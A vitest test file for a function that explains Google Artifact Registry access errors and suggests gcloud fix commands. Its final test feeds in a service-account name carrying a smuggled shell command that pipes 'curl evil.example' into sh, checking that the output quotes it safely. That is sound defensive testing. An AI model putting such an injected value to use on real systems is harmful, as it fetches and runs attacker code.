import { describe, expect, test } from 'vitest';
import { diagnoseGoogle } from '#lib/registries/google-diagnosis.ts';
import { errors, expectWords, explain, type Said, type Transcript } from './transcript.ts';

describe('Google', () => {
  const registry = 'europe-west1-docker.pkg.dev';
  const repository = 'tidewater-prod/images/app';
  const resource = 'projects/tidewater-prod/locations/europe-west1/repositories/images';
  const account = 'slipway-pull@tidewater-prod.iam.gserviceaccount.com';
  const grant = (more: string) =>
    `gcloud artifacts repositories add-iam-policy-binding ${more} --member=serviceAccount:${account} --role=roles/artifactregistry.reader`;

  test.each<[string, Partial<Transcript>, string, string | RegExp, string | undefined]>([
    [
      'names the role that is missing, and the command that gives it',
      {
        manifest: [
          403,
          errors(
            'DENIED',
            `Permission "artifactregistry.repositories.downloadArtifacts" denied on resource "${resource}" (or it may not exist)`,
          ),
        ],
      },
      'AccessDeniedError',
      `${account} may not read images in project tidewater-prod, or it does not exist`,
      grant('images --project=tidewater-prod --location=europe-west1'),
    ],
    [
      'maps gcr.io to its repository',
      {
        registry: 'eu.gcr.io',
        repository: 'tidewater-prod/app',
        manifest: [403, errors('DENIED', 'Permission denied for "downloadArtifacts" (or it may not exist)')],
      },
      'AccessDeniedError',
      /may not read eu\.gcr\.io in project tidewater-prod/,
      grant('eu.gcr.io --project=tidewater-prod --location=europe'),
    ],
    [
      'reads projects of a domain',
      { repository: 'example.com/app/images/web', manifest: [403, errors('DENIED', 'denied')] },
      'AccessDeniedError',
      /may not read images in project example\.com:app/,
      grant('images --project=example.com:app --location=europe-west1'),
    ],
    [
      'says that the API is off',
      {
        manifest: [
          403,
          errors(
            'DENIED',
            'Artifact Registry API has not been used in project 254464063395 before or it is disabled. Enable it by visiting https://console.developers.google.com/apis/api/artifactregistry.googleapis.com/overview?project=254464063395 then retry.',
          ),
        ],
      },
      'AccessDeniedError',
      'The Artifact Registry API is off in project tidewater-prod',
      'gcloud services enable artifactregistry.googleapis.com --project=tidewater-prod',
    ],
    [
      'says that the project is gone',
      { manifest: [403, errors('DENIED', 'Project "projects/tidewater-prod" not found or deleted.')] },
      'AccessDeniedError',
      'Google has no project tidewater-prod',
      undefined,
    ],
    [
      'says that the repository is missing, where Google tells',
      { manifest: [404, errors('NAME_UNKNOWN', 'Repository "images" not found')] },
      'RepositoryUnknownError',
      'Project tidewater-prod has no repository images in europe-west1',
      'gcloud artifacts repositories list --project=tidewater-prod',
    ],
    [
      'says that gcr.io was never made',
      {
        registry: 'gcr.io',
        repository: 'tidewater-prod/app',
        manifest: [
          403,
          errors(
            'DENIED',
            'gcr.io repo does not exist. Creating on push requires the artifactregistry.repositories.createOnPush permission',
          ),
        ],
      },
      'AccessDeniedError',
      'Project tidewater-prod has no repository gcr.io in us',
      'gcloud artifacts repositories list --project=tidewater-prod',
    ],
    [
      'says that the upstream refuses',
      { manifest: [404, errors('MANIFEST_UNKNOWN', 'Failed to fetch from the upstream repository: 401')] },
      'ManifestUnknownError',
      'The upstream of images in project tidewater-prod does not give out this image',
      undefined,
    ],
    [
      'says that a perimeter is in the way',
      {
        manifest: [
          403,
          errors(
            'DENIED',
            'Request is prohibited by organization’s policy. vpcServiceControlsUniqueIdentifier: x',
          ),
        ],
      },
      'AccessDeniedError',
      /service perimeter/,
      undefined,
    ],
    [
      'says that billing is off',
      { manifest: [403, errors('DENIED', 'This API method requires billing to be enabled.')] },
      'AccessDeniedError',
      'Project tidewater-prod has no active billing',
      undefined,
    ],
    [
      'says that a tag is missing',
      { manifest: [404, errors('MANIFEST_UNKNOWN', 'Failed to fetch "1"')] },
      'ManifestUnknownError',
      `${registry}/${repository} has no tag 1`,
      undefined,
    ],
    [
      'asks for a secret',
      {
        account: null,
        manifest: [
          403,
          errors(
            'DENIED',
            `Unauthenticated request. Unauthenticated requests do not have permission "artifactregistry.repositories.downloadArtifacts" on resource "${resource}" (or it may not exist)`,
          ),
        ],
      },
      'AccessDeniedError',
      'images in project tidewater-prod may not be read without signing in, or does not exist',
      undefined,
    ],
    [
      'says what a path lacks',
      { repository: 'tidewater-prod/app', manifest: [403, errors('DENIED', 'denied')] },
      'AccessDeniedError',
      `${registry}/tidewater-prod/app names no image`,
      undefined,
    ],
    [
      'says that it does not take its own token',
      { manifest: [401, errors('UNAUTHORIZED', 'authentication failed')] },
      'AccessDeniedError',
      /does not take the access token/,
      undefined,
    ],
  ])('%s', async (_what, transcript, name, what, paste) => {
    const found = await explain({ registry, repository, account, ...transcript }, diagnoseGoogle);
    expect(found.name).toBe(name);
    expect(found.shown.what).toEqual(typeof what === 'string' ? what : expect.stringMatching(what));
    expect(found.shown.paste?.text).toBe(paste);
    expectWords(found.shown);
  });

  test('quotes a name that would be a command', async () => {
    const evil = "a';curl evil.example|sh;'@p.iam.gserviceaccount.com";
    const manifest: Said = [403, errors('DENIED', 'denied')];
    const { shown } = await explain({ registry, repository, account: evil, manifest }, diagnoseGoogle);
    expect(shown.paste?.text).toContain(
      `--member='serviceAccount:a'\\'';curl evil.example|sh;'\\''@p.iam.gserviceaccount.com' --role`,
    );
  });
});
